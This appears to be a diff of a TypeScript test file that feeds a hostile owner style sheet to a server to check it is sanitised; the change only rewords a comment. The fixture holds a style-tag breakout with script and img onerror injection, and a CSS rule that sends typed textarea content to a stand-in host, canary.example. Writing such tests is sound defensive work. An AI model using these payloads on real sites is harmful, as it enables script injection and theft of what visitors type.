@@ -1,7 +1,7 @@
 import { expect, test } from '../server/test.ts';
 import { withFields } from '../server/with-fields.ts';
 
-/** An owner's style sheet that tries to become markup, and to send out what the visitor types. */
+/** Style sheet of an owner that tries to become markup, and to send out typed text. */
 const sheet = `
   </style><script>window.ran = true</script><img src=x onerror="window.ran = true"><style>
   textarea:not(:placeholder-shown), textarea:valid { background: url('https://canary.example/typed') }
